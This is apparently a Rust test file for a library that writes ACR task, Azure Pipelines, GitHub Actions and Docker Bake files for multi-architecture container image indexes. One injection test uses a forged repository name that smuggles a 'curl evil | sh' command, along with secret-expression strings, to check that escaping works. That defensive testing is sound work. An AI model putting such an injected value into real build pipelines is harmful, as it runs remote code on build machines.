//! The files for build systems, read by crates that know their languages.

use bayplan::compose::{Draft, Entry, Format, Hitch, Lack, Of, Recipe, System, recipe};
use bayplan::image::platform::Platform;
use saphyr::{LoadableYamlNode, Yaml};

fn entry(digit: char, platform: &str) -> Entry {
    Entry {
        media_type: "application/vnd.oci.image.manifest.v1+json".to_owned(),
        digest: format!("sha256:{}", digit.to_string().repeat(64)),
        size: 7,
        platform: platform.to_owned(),
        config: platform.parse::<Platform>().ok(),
        repository: Some("my.azurecr.io/samples/app".to_owned()),
        ..Entry::default()
    }
}

fn draft() -> Draft {
    Draft {
        entries: vec![entry('1', "linux/amd64"), entry('2', "linux/arm64")],
        target: "my.azurecr.io/samples/app:latest".to_owned(),
        ..Draft::default()
    }
}

fn of(draft: &Draft, system: System, way: Of) -> Recipe {
    recipe(draft, "registry.example/repository", system, way)
}

fn yaml(text: &str) -> Yaml<'_> {
    let mut documents = Yaml::load_from_str(text).unwrap_or_else(|error| panic!("{error}: {text}"));
    assert_eq!(documents.len(), 1, "{text}");
    documents.remove(0)
}

fn text<'a>(yaml: &'a Yaml<'_>) -> &'a str {
    yaml.as_str().unwrap_or_else(|| panic!("{yaml:?}"))
}

fn items<'a, 'input>(yaml: &'a Yaml<'input>) -> &'a Vec<Yaml<'input>> {
    yaml.as_sequence().unwrap_or_else(|| panic!("{yaml:?}"))
}

#[test]
fn an_acr_task_in_the_form_of_its_documentation() {
    let task = of(&draft(), System::AcrTask, Of::Sources);
    assert_eq!(task.lacks, []);
    let read = yaml(&task.text);
    assert_eq!(text(&read["version"]), "v1.1.0");
    let steps = items(&read["steps"]);
    let tag = |name: &str| format!("{{{{.Run.Registry}}}}/samples/app:{{{{.Run.ID}}}}-linux-{name}");
    for (step, name) in steps.iter().zip(["amd64", "arm64"]) {
        let build = text(&step["build"]);
        assert_eq!(
            build,
            format!("--platform linux/{name} -t {} -f Dockerfile .", tag(name)),
            "what is built is what is tagged"
        );
    }
    let pushed: Vec<&str> = items(&steps[2]["push"]).iter().map(text).collect();
    assert_eq!(pushed, [tag("amd64"), tag("arm64")], "what is pushed was built");
    let index = "{{.Run.Registry}}/samples/app:latest";
    assert_eq!(
        text(&steps[3]["cmd"]),
        format!("docker manifest create {index} {} {}", tag("amd64"), tag("arm64"))
    );
    assert_eq!(text(&steps[4]["cmd"]), format!("docker manifest push --purge {index}"));
    assert_eq!(text(&steps[5]["cmd"]), format!("docker manifest inspect {index}"));
    assert_eq!(steps.len(), 6);
}

#[test]
fn an_acr_task_of_images_by_their_digests() {
    let mut edited = draft();
    edited.entries[1].platform = "linux/arm64/v8".to_owned();
    let task = of(&edited, System::AcrTask, Of::Digests);
    let read = yaml(&task.text);
    let steps = items(&read["steps"]);
    let digest = |digit: &str| format!("{{{{.Run.Registry}}}}/samples/app@sha256:{}", digit.repeat(64));
    let index = "{{.Run.Registry}}/samples/app:latest";
    assert_eq!(
        text(&steps[0]["cmd"]),
        format!("docker manifest create {index} {} {}", digest("1"), digest("2"))
    );
    assert_eq!(
        text(&steps[1]["cmd"]),
        format!("docker manifest annotate --os linux --arch arm64 --variant v8 {index} {}", digest("2"))
    );
    assert_eq!(text(&steps[2]["cmd"]), format!("docker manifest push --purge {index}"));
    assert_eq!(task.lacks, []);

    let mut elsewhere = draft();
    elsewhere.entries[0].repository = Some("docker.io/library/app".to_owned());
    let lacks = of(&elsewhere, System::AcrTask, Of::Digests).lacks;
    assert!(lacks.contains(&Lack::Command(Hitch::OtherRegistry)), "{lacks:?}");
}

#[test]
fn workflows_and_pipelines() {
    let mut draft = draft();
    draft.annotations = vec![("org.opencontainers.image.title".to_owned(), "it's: \"a\" #1 é".to_owned())];
    for (system, way) in [
        (System::AzurePipelines, Of::Digests),
        (System::AzurePipelines, Of::Sources),
        (System::GitHub, Of::Digests),
        (System::GitHub, Of::Sources),
    ] {
        let file = of(&draft, system, way);
        assert_eq!(file.lacks, [], "{system:?} {way:?}");
        let read = yaml(&file.text);
        let steps = match system {
            System::GitHub => items(&read["jobs"]["index"]["steps"]),
            _ => items(&read["steps"]),
        };
        let script = if system == System::GitHub { "run" } else { "script" };
        let scripts: Vec<&str> =
            steps.iter().filter_map(|step| step.as_mapping_get(script)?.as_str()).collect();
        match way {
            Of::Digests => {
                let script = scripts.last().unwrap();
                assert!(
                    script.starts_with(
                        "docker buildx imagetools create \\\n  --tag my.azurecr.io/samples/app:latest"
                    ),
                    "{script}"
                );
                for digit in ["1", "2"] {
                    assert!(
                        script.contains(&format!("my.azurecr.io/samples/app@sha256:{}", digit.repeat(64))),
                        "{script}"
                    );
                }
            }
            Of::Sources if system == System::GitHub => {
                let with = &steps.last().unwrap()["with"];
                assert_eq!(text(&with["platforms"]), "linux/amd64,linux/arm64");
                assert_eq!(text(&with["tags"]), "my.azurecr.io/samples/app:latest");
                assert_eq!(
                    text(&with["annotations"]).trim_end(),
                    "index:org.opencontainers.image.title=it's: \"a\" #1 é"
                );
            }
            Of::Sources => {
                let script = scripts.last().unwrap();
                assert!(script.contains("--platform linux/amd64,linux/arm64"), "{script}");
            }
        }
    }
    let github = of(&draft, System::GitHub, Of::Sources).text;
    assert!(github.contains("${{ secrets.REGISTRY_PASSWORD }}"), "it names where the secret is: {github}");
    let own = Draft { target: "ghcr.io/me/app:1".to_owned(), ..draft };
    let github = of(&own, System::GitHub, Of::Sources).text;
    assert!(github.contains("packages: write") && github.contains("${{ secrets.GITHUB_TOKEN }}"), "{github}");
}

#[test]
fn a_bake_file() {
    let mut draft = draft();
    draft.annotations = vec![("a".to_owned(), "${x} %{y} \"z\"".to_owned())];
    let file = of(&draft, System::Bake, Of::Sources);
    assert_eq!(file.lacks, []);
    let body =
        hcl_edit::parser::parse_body(&file.text).unwrap_or_else(|error| panic!("{error}: {}", file.text));
    assert_eq!(body.blocks().count(), 2);
    assert!(file.text.contains("platforms  = [\"linux/amd64\", \"linux/arm64\"]"), "{}", file.text);
    assert!(
        file.text.contains("index:a=$${x} %%{y} \\\"z\\\""),
        "what looks like an expression is text: {}",
        file.text
    );
    let docker = of(&Draft { format: Format::Docker, ..draft }, System::Bake, Of::Sources).text;
    assert!(docker.contains("oci-mediatypes=false"), "{docker}");
    hcl_edit::parser::parse_body(&docker).unwrap();
}

#[test]
fn what_a_system_would_run_is_refused() {
    let with = |text: &str| Draft { annotations: vec![("a".to_owned(), text.to_owned())], ..draft() };
    for (system, strange) in [
        (System::GitHub, "${{ secrets.TOKEN }}"),
        (System::AzurePipelines, "$(token)"),
        (System::AzurePipelines, "${{ variables.token }}"),
        (System::AcrTask, "{{.Secrets.token}}"),
        (System::GitHub, "a\nrun: b"),
        (System::Bake, "a\u{0}b"),
    ] {
        for way in system.ways() {
            let file = of(&with(strange), system, *way);
            assert_eq!(
                (file.text.as_str(), file.lacks),
                ("", vec![Lack::Expression]),
                "{system:?} {strange:?}"
            );
        }
    }
    // A draft of a link may hold anything.
    let mut forged = draft();
    forged.entries[0].repository = Some("my.azurecr.io/a\"; curl evil | sh #".to_owned());
    assert_eq!(of(&forged, System::AcrTask, Of::Digests).text, "");
    let github = of(&forged, System::GitHub, Of::Digests).text;
    let read = yaml(&github);
    let run = text(&items(&read["jobs"]["index"]["steps"])[2]["run"]);
    assert!(
        run.contains("$'my.azurecr.io/a\\\"; curl evil | sh #@sha256"),
        "it is one word of the shell: {run}"
    );
}

#[test]
fn what_is_not_built_is_told() {
    let entries = vec![
        entry('1', "windows/amd64"),
        entry('2', ""),
        entry('3', "linux(1.2+f)/arm64"),
        entry('4', "linux/arm64"),
    ];
    let file = of(&Draft { entries, ..draft() }, System::Bake, Of::Sources);
    assert_eq!(file.lacks, [Lack::NotLinux(vec![1]), Lack::NoPlatform(vec![2]), Lack::OfBase(vec![3])]);
    assert!(file.text.contains("[\"linux/arm64\"]"), "each platform once: {}", file.text);
    let none =
        of(&Draft { entries: vec![entry('1', "windows/amd64")], ..draft() }, System::AcrTask, Of::Sources);
    assert_eq!((none.text.as_str(), none.lacks.last()), ("", Some(&Lack::Nothing)));
}
